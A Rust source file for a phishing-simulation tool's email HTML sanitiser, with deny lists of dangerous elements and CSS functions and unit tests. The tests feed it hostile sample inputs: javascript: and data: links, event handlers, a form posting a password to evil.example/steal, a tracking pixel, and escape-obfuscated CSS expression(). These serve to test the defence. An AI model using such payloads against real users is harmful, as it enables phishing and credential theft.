//! The email HTML sanitiser. A simulated email must never carry an
//! attacker's live content: an imported phishing email can hold the
//! attacker's tracking pixel, a form posting to them, scripts, frames, a
//! `<meta refresh>`, stylesheets and `url()`s that fetch from their server.
//!
//! The HTML is parsed (lol_html, Cloudflare's streaming HTML rewriter, not
//! patterns over text, so entity-encoded, protocol-relative and oddly
//! quoted tricks are seen as the browser sees them) and rebuilt:
//!
//! - `<a>` and `<area>` links point at the tracked link (or stay a link
//!   Safety Net itself adds: the report link, the honeypot);
//! - elements that run, fetch, post or embed are dropped with their content
//!   (scripts, forms and their fields, frames, objects, `<meta>`, `<base>`,
//!   `<link>`, SVG and MathML, media, pictures other than Safety Net's own
//!   open-tracking pixel);
//! - only attributes on a short list of harmless ones are kept, so no event
//!   handler and no other URL-bearing attribute survives;
//! - CSS (in `style` attributes and `<style>`) loses every `url()`,
//!   `image-set()`, `@import` and the like; CSS that hides anything behind
//!   escapes or character references is dropped whole;
//! - comments go, including Outlook's conditional comments.
//!
//! It runs on a template's source when it is saved (in the app, through the
//! GoPhish-compatible API and its import, and when a raw email is imported)
//! and again on every rendered email, so template code cannot put anything
//! back.

use std::cell::RefCell;

use lol_html::html_content::ContentType;
use lol_html::{comments, element, rewrite_str, text, RewriteStrSettings};

/// Which links and pictures may stay as they are; every other link becomes `click`.
pub struct Links<'a> {
    /// What a link of the email's own is pointed at.
    pub click: &'a str,
    /// Link targets Safety Net adds itself (report link, honeypot).
    pub keep: &'a [&'a str],
    /// Picture addresses Safety Net adds itself (the open-tracking pixel).
    pub images: &'a [&'a str],
}

/// Elements dropped with everything inside them.
const DROPPED: [&str; 38] = [
    "script",
    "noscript",
    "iframe",
    "frame",
    "frameset",
    "noframes",
    "object",
    "embed",
    "applet",
    "param",
    "form",
    "input",
    "button",
    "select",
    "textarea",
    "option",
    "optgroup",
    "datalist",
    "output",
    "keygen",
    "meta",
    "base",
    "link",
    "svg",
    "math",
    "template",
    "audio",
    "video",
    "source",
    "track",
    "picture",
    "canvas",
    "portal",
    "bgsound",
    "xmp",
    "plaintext",
    "noembed",
    "dialog",
];

/// Attributes kept on any element (besides `aria-*`); all others go.
const KEPT_ATTRIBUTES: [&str; 42] = [
    "abbr",
    "align",
    "alt",
    "axis",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "char",
    "charoff",
    "class",
    "clear",
    "color",
    "colspan",
    "compact",
    "coords",
    "datetime",
    "dir",
    "face",
    "frame",
    "headers",
    "height",
    "hspace",
    "id",
    "lang",
    "name",
    "noshade",
    "nowrap",
    "role",
    "rowspan",
    "rules",
    "scope",
    "shape",
    "size",
    "span",
    "start",
    "summary",
    "tabindex",
    "title",
    "type",
    "valign",
    "width",
];

/// Attributes kept on particular elements.
fn kept_here(tag: &str, attribute: &str) -> bool {
    KEPT_ATTRIBUTES.contains(&attribute)
        || attribute.starts_with("aria-")
        || matches!(
            (tag, attribute),
            ("a", "target") | ("ol", "reversed") | ("li", "value") | ("td" | "th", "vspace")
        )
}

/// `{{ link }}` and `{{link}}` are the same marker.
fn squeeze(s: &str) -> String {
    s.chars().filter(|c| !c.is_whitespace()).collect()
}

fn listed(value: &str, list: &[&str]) -> bool {
    let v = squeeze(value);
    list.iter()
        .any(|k| !k.is_empty() && (squeeze(k) == v || squeeze(&super::render::html_escape(k)) == v))
}

/// The HTML with nothing live left in it, or why it could not be read.
pub fn sanitise(html: &str, links: &Links<'_>) -> Result<String, String> {
    // The text of a <style> element arrives in pieces; it is cleaned as a whole.
    let style_text = RefCell::new(String::new());
    let click = super::render::html_escape(links.click);
    let settings = RewriteStrSettings::new()
        .with_enable_esi_tags(false)
        .append_element_content_handler(element!("*", |el| {
            let tag = el.tag_name();
            if DROPPED.contains(&tag.as_str()) {
                el.remove();
                return Ok(());
            }
            if tag == "img" || tag == "image" {
                let own = el
                    .get_attribute("src")
                    .is_some_and(|src| listed(&src, links.images));
                if !own {
                    el.remove();
                    return Ok(());
                }
            }
            let names: Vec<String> = el.attributes().iter().map(|a| a.name()).collect();
            for name in names {
                let keep = match name.as_str() {
                    "href" if tag == "a" || tag == "area" => {
                        let own = el
                            .get_attribute("href")
                            .is_some_and(|h| listed(&h, links.keep) || listed(&h, &[links.click]));
                        if !own {
                            el.set_attribute("href", &click)?;
                        }
                        true
                    }
                    "src" if tag == "img" || tag == "image" => true,
                    "style" => {
                        let value = el.get_attribute("style").unwrap_or_default();
                        match clean_css(&value) {
                            Some(clean) if !clean.trim().is_empty() => {
                                if clean != value {
                                    el.set_attribute("style", &clean)?;
                                }
                                true
                            }
                            _ => false,
                        }
                    }
                    other => kept_here(&tag, other),
                };
                if !keep {
                    el.remove_attribute(&name);
                }
            }
            Ok(())
        }))
        .append_element_content_handler(text!("style", |t| {
            style_text.borrow_mut().push_str(t.as_str());
            if t.last_in_text_node() {
                let whole = std::mem::take(&mut *style_text.borrow_mut());
                let clean = clean_css(&whole).unwrap_or_default().replace('<', "");
                t.replace(&clean, ContentType::Html);
            } else {
                t.remove();
            }
            Ok(())
        }))
        .append_element_content_handler(comments!("*", |c| {
            c.remove();
            Ok(())
        }))
        .append_document_content_handler(lol_html::doc_comments!(|c| {
            c.remove();
            Ok(())
        }));
    rewrite_str(html, settings).map_err(|e| {
        tracing::debug!(error = %e, "HTML could not be sanitised");
        "The email's HTML could not be read safely. Paste a simpler version, or write the email again in the editor.".to_string()
    })
}

/// A template's source: links point at `{{ link }}`; the report link and
/// the tracking pixel are Safety Net's own markers.
pub fn template_source(html: &str) -> Result<String, String> {
    sanitise(
        html,
        &Links {
            click: "{{ link }}",
            keep: &["{{ report_link }}"],
            images: &[],
        },
    )
}

/// CSS functions that fetch something, or run something in old browsers.
const FETCHING: [&str; 12] = [
    "url",
    "image",
    "image-set",
    "-webkit-image-set",
    "cross-fade",
    "-webkit-cross-fade",
    "element",
    "-moz-element",
    "expression",
    "paint",
    "src",
    "env",
];

/// The CSS with every fetching function replaced by `none` and every
/// `@import` removed; `None` when escapes or character references could
/// hide one (such CSS is dropped whole).
pub fn clean_css(css: &str) -> Option<String> {
    if css.contains('\\') || css.contains('&') {
        return None;
    }
    let css = strip_comments(css);
    let lower = css.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    let mut out = String::with_capacity(css.len());
    let mut i = 0;
    while i < bytes.len() {
        let c = bytes[i];
        // An @import (or @namespace) rule: everything up to its semicolon goes.
        if c == b'@' && (lower[i..].starts_with("@import") || lower[i..].starts_with("@namespace"))
        {
            i = lower[i..].find(';').map_or(bytes.len(), |j| i + j + 1);
            continue;
        }
        if c.is_ascii_alphabetic() || c == b'-' || c == b'_' {
            let start = i;
            while i < bytes.len()
                && (bytes[i].is_ascii_alphanumeric() || bytes[i] == b'-' || bytes[i] == b'_')
            {
                i += 1;
            }
            let word = &lower[start..i];
            if i < bytes.len() && bytes[i] == b'(' && FETCHING.contains(&word) {
                i = past_closing_paren(bytes, i);
                out.push_str("none");
            } else if matches!(word, "behavior" | "-moz-binding") {
                out.push_str("x-removed");
            } else {
                out.push_str(&css[start..i]);
            }
            continue;
        }
        let ch = css[i..].chars().next().expect("in bounds");
        out.push(ch);
        i += ch.len_utf8();
    }
    Some(out)
}

fn strip_comments(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut rest = css;
    while let Some(i) = rest.find("/*") {
        out.push_str(&rest[..i]);
        out.push(' ');
        rest = rest[i + 2..]
            .find("*/")
            .map_or("", |j| &rest[i + 2 + j + 2..]);
    }
    out.push_str(rest);
    out
}

/// The index just past the `)` that closes the `(` at `open`, skipping quoted strings.
fn past_closing_paren(b: &[u8], open: usize) -> usize {
    let mut depth = 0;
    let mut quote: Option<u8> = None;
    let mut i = open;
    while i < b.len() {
        match (quote, b[i]) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, b'"' | b'\'') => quote = Some(b[i]),
            (None, b'(') => depth += 1,
            (None, b')') => {
                depth -= 1;
                if depth == 0 {
                    return i + 1;
                }
            }
            _ => {}
        }
        i += 1;
    }
    b.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn clean(html: &str) -> String {
        template_source(html).unwrap()
    }

    #[test]
    fn links_go_to_the_tracked_link_whatever_their_disguise() {
        for a in [
            r#"<a href="https://evil.example/x">x</a>"#,
            r#"<a href="//evil.example/x">x</a>"#,
            r#"<a href="&#104;ttps://evil.example">x</a>"#,
            r#"<a href="javascript:alert(1)">x</a>"#,
            r#"<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>"#,
            r#"<a HREF=evil.example>x</a>"#,
            r#"<map><area href="https://evil.example" shape="rect"></map>"#,
        ] {
            let out = clean(a);
            assert!(
                out.to_lowercase().contains(r#"href="{{ link }}""#),
                "{a} -> {out}"
            );
            assert!(
                !out.contains("evil") && !out.contains("javascript") && !out.contains("data:"),
                "{out}"
            );
        }
        let own = clean(r#"<a href="{{report_link}}">Report</a> <a href="{{ link }}">Open</a>"#);
        assert!(
            own.contains(r#"href="{{report_link}}""#) && own.contains(r#"href="{{ link }}""#),
            "{own}"
        );
    }

    #[test]
    fn nothing_that_runs_fetches_or_posts_survives() {
        let html = r#"<html><head><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><script src="https://evil.example/x.js"></script><style>@import url(https://evil.example/a.css); body{background:url("https://evil.example/b.png")} p{color:red}</style></head>
<body onload="steal()" background="https://evil.example/bg.png"><!--[if mso]><v:fill src="https://evil.example/o.png"/><![endif]-->
<img src="https://evil.example/pixel.gif" width="1"><img src="cid:logo"><p style="background-image: URL( 'https://evil.example/c.png' ); color: blue" onclick="x()">Hello</p>
<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example"></iframe><object data="https://evil.example/f.swf"></object><svg><script>alert(1)</script><a xlink:href="javascript:1">s</a></svg>
<table><tr><td style="x:expr\65ssion(alert(1))" background="https://evil.example/t.png">cell</td></tr></table></body></html>"#;
        let out = clean(html);
        assert!(!out.to_ascii_lowercase().contains("evil.example"), "{out}");
        for gone in [
            "<script", "<form", "<input", "<iframe", "<object", "<svg", "<meta", "<base", "<link",
            "<img", "onload", "onclick", "<!--", "url(", "@import", "expr",
        ] {
            assert!(!out.to_ascii_lowercase().contains(gone), "{gone} in {out}");
        }
        assert!(
            out.contains("p{color:red}")
                && out.contains("color: blue")
                && out.contains("Hello")
                && out.contains("cell"),
            "{out}"
        );
    }

    #[test]
    fn the_tracking_pixel_and_report_link_of_safety_net_stay_in_the_rendered_email() {
        let html = r#"<p><a href="https://sim.example/c/tok">Open</a> <a href="https://evil.example">x</a> <a href="https://sim.example/r/tok">Report</a><img src="https://sim.example/o/tok" width="1" height="1" alt="" style="display:none;border:0"></p>"#;
        let out = sanitise(
            html,
            &Links {
                click: "https://sim.example/c/tok",
                keep: &["https://sim.example/r/tok"],
                images: &["https://sim.example/o/tok"],
            },
        )
        .unwrap();
        assert_eq!(out.matches("https://sim.example/c/tok").count(), 2, "{out}");
        assert!(
            out.contains(r#"<img src="https://sim.example/o/tok""#),
            "{out}"
        );
        assert!(
            out.contains("https://sim.example/r/tok") && !out.contains("evil"),
            "{out}"
        );
    }

    #[test]
    fn css_loses_what_fetches_and_keeps_what_styles() {
        assert_eq!(
            clean_css("color: red; background: url(x.png) no-repeat").unwrap(),
            "color: red; background: none no-repeat"
        );
        assert_eq!(
            clean_css("b: image-set('a.png' 1x); c: u/**/rl(x)").unwrap(),
            "b: none; c: u rl(x)"
        );
        assert_eq!(clean_css("@import 'x.css'; p{}").unwrap(), " p{}");
        assert_eq!(clean_css(r"b: \75rl(x)"), None);
        assert_eq!(clean_css("b: u&#114;l(x)"), None);
        assert!(clean_css("behavior: url(x.htc)")
            .unwrap()
            .starts_with("x-removed"));
    }
}
